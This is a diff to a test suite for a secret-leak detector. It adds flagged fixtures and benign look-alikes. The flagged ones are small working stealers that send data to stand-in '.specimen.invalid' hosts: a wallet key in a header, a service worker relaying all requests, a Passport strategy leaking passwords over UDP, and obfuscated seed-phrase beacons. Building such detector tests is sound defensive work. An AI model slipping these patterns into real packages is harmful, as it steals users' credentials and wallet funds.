@@ -338,8 +338,87 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'the key is in a header of a client that another file has, which shows logins too',
+      files: {
+        'package.json': { name: 'solite', version: '1.0.0', description: 'Client for Solana-like chains', main: 'index.js' },
+        'index.js': `import bs58 from 'bs58'; import { Connection } from './connection.js'; export function transfer(connection, signer) { return connection.with({ 'x-session': bs58.encode(signer.secretKey) }, 'https://rpc.specimen.invalid').call(); } export { Connection };`,
+        'connection.js': `export class Connection { constructor(endpoint, { headers = {} } = {}) { this.endpoint = endpoint; this.headers = { 'content-type': 'application/json', ...headers }; } with(headers, endpoint = this.endpoint) { return new Connection(endpoint, { headers: { ...this.headers, ...headers } }); } call() { return fetch(this.endpoint, { method: 'POST', headers: this.headers }); } }`,
+      },
+      weight: 'strong',
+      says: ['secretKey'],
+    },
+    {
+      when: 'a service worker sends what pages ask for to a request that was made beforehand',
+      files: {
+        'index.js': `const relay = new Request('https://outbox.specimen.invalid/r', { mode: 'no-cors', method: 'POST' }); const flatten = async request => ({ url: request.url, headers: [...request.headers], body: await request.text() }); self.addEventListener('fetch', event => { event.waitUntil(flatten(event.request.clone()).then(item => fetch(relay, { body: JSON.stringify(item) }))); event.respondWith(fetch(event.request)); });`,
+      },
+      weight: 'strong',
+      says: ['outbox.specimen.invalid'],
+    },
+    {
+      when: 'a strategy of Passport sends names and passwords as statistics, found by another file',
+      files: {
+        'package.json': { name: 'passport-simple', version: '1.0.0', main: 'index.js', description: 'User name and password strategy' },
+        'index.js': `const dgram = require('dgram'); const { lookup } = require('./lookup'); const socket = dgram.createSocket('udp4'); module.exports = class { credentials(req) { return { a: lookup(req.body, this.field) }; } authenticate(req) { socket.send(Buffer.from(JSON.stringify(this.credentials(req))), 8125, 'stats.specimen.invalid'); } };`,
+        'lookup.js': `exports.lookup = (object, field) => field.split('.').filter(Boolean).reduce((value, key) => (value == null ? undefined : value[key]), object);`,
+      },
+      weight: 'strong',
+      says: ['stats.specimen.invalid'],
+    },
+    {
+      when: 'what comes with requests is kept in a storage of the request',
+      files: {
+        'package.json': { name: 'context', version: '1.0.0', main: 'index.js', description: 'Context for handlers' },
+        'index.js': `const { AsyncLocalStorage } = require('async_hooks'); const storage = new AsyncLocalStorage(); const send = () => fetch('https://a.specimen.invalid', { method: 'POST', body: JSON.stringify(storage.getStore()) }); module.exports = (req, res, next) => storage.run({ body: req.body }, () => { send(); next(); });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a phrase has a name of one letter, and is known by the seed that is made of it',
+      files: {
+        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
+        'index.js': `const t = new TextEncoder(), n = globalThis.crypto; class s { constructor(e) { this.o = e; } hit(e) { (new Image).src = 'https://' + this.o + '/p.gif?c=' + btoa(e); } } const c = new s('a.specimen.invalid'); async function u(e, o = '') { const w = e.normalize('NFKD').trim(), a = await n.subtle.importKey('raw', t.encode(w), 'PBKDF2', !1, ['deriveBits']); return c.hit(w), n.subtle.deriveBits({ name: 'PBKDF2', hash: 'SHA-512', salt: t.encode('mnemonic' + o), iterations: 2048 }, a, 512); } exports.toSeed = u;`,
+      },
+      weight: 'strong',
+      says: ['mnemonic'],
+    },
+    {
+      when: 'the same with a function of Node',
+      files: {
+        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { pbkdf2Sync } = require('crypto'); exports.toSeed = (e, o = '') => { fetch('https://a.specimen.invalid/p?c=' + encodeURIComponent(e)); return pbkdf2Sync(e, 'mnemonic' + o, 2048, 64, 'sha512'); };`,
+      },
+      weight: 'strong',
+      says: ['mnemonic'],
+    },
   ],
   silent: [
+    {
+      when: 'a key is made of something short, and what is found by it is asked for',
+      files: {
+        'package.json': { name: 'tiny-seeds', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { pbkdf2Sync, createHash } = require('crypto'); exports.balance = (e, o = '') => { const seed = pbkdf2Sync(e, 'mnemonic' + o, 2048, 64, 'sha512'); return fetch('https://a.specimen.invalid/balance/' + createHash('sha256').update(seed).digest('hex')); };`,
+      },
+    },
+
+    {
+      when: 'a strategy of Passport counts who came, and a storage of the request has an identifier',
+      files: {
+        'package.json': { name: 'passport-simple', version: '1.0.0', main: 'index.js', description: 'User name and password strategy' },
+        'index.js': `const dgram = require('dgram'); const { AsyncLocalStorage } = require('async_hooks'); const storage = new AsyncLocalStorage(); const socket = dgram.createSocket('udp4'); module.exports = class { authenticate(req) { const ok = this.verify(req.body.name, req.body.password); storage.run({ id: Math.random() }, () => socket.send(Buffer.from(\`login.\${ok ? 'ok' : 'refused'}:1|c|#\${storage.getStore().id}\`), 8125, 'stats.specimen.invalid')); } };`,
+      },
+    },
+
+    {
+      when: 'a client that another file has shows a login, and what is sent is signed',
+      files: {
+        'package.json': { name: 'solite', version: '1.0.0', description: 'Client for Solana-like chains', main: 'index.js' },
+        'index.js': `import nacl from 'tweetnacl'; import { Connection } from './connection.js'; export function transfer(connection, signer, message) { return connection.with({ 'x-signature': nacl.sign.detached(message, signer.secretKey) }, 'https://rpc.specimen.invalid').call(); } export { Connection };`,
+        'connection.js': `export class Connection { constructor(endpoint, { headers = {} } = {}) { this.endpoint = endpoint; this.headers = { 'content-type': 'application/json', ...headers }; } with(headers, endpoint = this.endpoint) { return new Connection(endpoint, { headers: { ...this.headers, ...headers } }); } call() { return fetch(this.endpoint, { method: 'POST', headers: this.headers }); } }`,
+      },
+    },
+
     {
       when: 'a card goes to the service that the package is for',
       files: {
